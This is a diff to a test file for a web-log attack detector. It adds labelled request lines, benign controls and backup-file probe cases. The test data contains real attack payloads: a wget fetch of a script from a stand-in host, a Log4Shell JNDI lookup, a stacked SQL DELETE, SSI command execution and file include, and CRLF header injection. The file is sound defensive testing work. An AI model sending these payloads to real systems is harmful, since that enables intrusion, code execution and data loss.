@@ -363,6 +363,12 @@ def web(request: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x
     ("GET /api/exec?cmd=x%7Cid HTTP/1.1", "lw-web-command-injection"),
     ("GET /shell?c=$(wget%20http://198.51.100.9/x.sh) HTTP/1.1", "lw-web-command-injection"),
     ("GET /?x=${jndi:ldap://198.51.100.9:1389/a} HTTP/1.1", "lw-web-log4shell"),
+    ("GET /cart.jsp?id=2&nombre=%27+DELETE+FROM+USERS&precio=39 HTTP/1.1", "lw-web-sqli"),  # stacked DELETE, no SELECT
+    ("GET /form.jsp?login=%3C%21--%23EXEC+cmd%3D%22ls+%2F%22--%3E HTTP/1.1", "lw-web-ssi-injection"),
+    ("GET /item.jsp?precio=39%3C%21--%23include+file%3D%22secret%22+--%3E HTTP/1.1", "lw-web-ssi-injection"),
+    ("GET /login.jsp?B1=any%0D%0ASet-cookie%3A+Tamper%3D1041264011025374727 HTTP/1.1", "lw-web-header-injection"),
+    ("GET /redirect?to=%2F%0ALocation%3A+http%3A%2F%2F198.51.100.9%2F HTTP/1.1", "lw-web-header-injection"),
+    ("GET /item.jsp?precio=Set-cookie%3A+Tamper%3D5765205567234876235 HTTP/1.1", "lw-web-header-injection"),
 ])
 def test_web_attack_payloads(detector, request_line, rule_id):
     signal = by_rule(detector.scan([web(request_line, status=404)]), rule_id)
@@ -382,6 +388,11 @@ def test_shellshock_in_user_agent(detector):
     "GET /docs/getting-started?ref=nav;jsessionid=A1B2 HTTP/1.1",
     "POST /api/v1/orders HTTP/1.1",
     "GET /wp-content/themes/shell-theme/style.css HTTP/1.1",
+    "GET /config/settings?tab=old HTTP/1.1",  # a page named config, a value named old: no file extension
+    "GET /docs/backup-and-restore.html HTTP/1.1",
+    "GET /search?q=how+to+insert+a+table+into+a+document HTTP/1.1",
+    "GET /comments?text=%3C%21--+a+plain+HTML+comment+--%3E HTTP/1.1",
+    "GET /~alice/index.html HTTP/1.1",
 ])
 def test_benign_requests_make_no_signal(detector, request_line):
     assert detector.scan([web(request_line)]) == []
@@ -401,6 +412,19 @@ def test_line_numbers_are_capped_but_the_count_is_true(rules):
     assert len(signal.line_numbers) == 500
     assert signal.line_numbers[:2] == [1, 2] and signal.line_numbers[-1] == 1200
     assert signal.description.startswith("1200 matching lines")
+
+
+@pytest.mark.parametrize("request_line", [
+    "GET /tienda1/4861362529278789730.inc HTTP/1.1",
+    "GET /admin/index.php.bak HTTP/1.1",
+    "GET /app/config.php~ HTTP/1.1",
+    "GET /site/web.config HTTP/1.1",
+    "GET /includes/.settings.php.swp HTTP/1.1",
+    "GET /publico/pagar.jsp.old?modo=insertar HTTP/1.1",
+])
+def test_backup_and_include_files_are_a_low_reconnaissance_signal(detector, request_line):
+    [signal] = detector.scan([web(request_line, status=404)])
+    assert (signal.rule_id, signal.level, signal.category) == ("lw-web-backup-file-probe", "low", "reconnaissance")
 
 
 def test_webshell_success_is_critical_and_probe_is_low(detector):
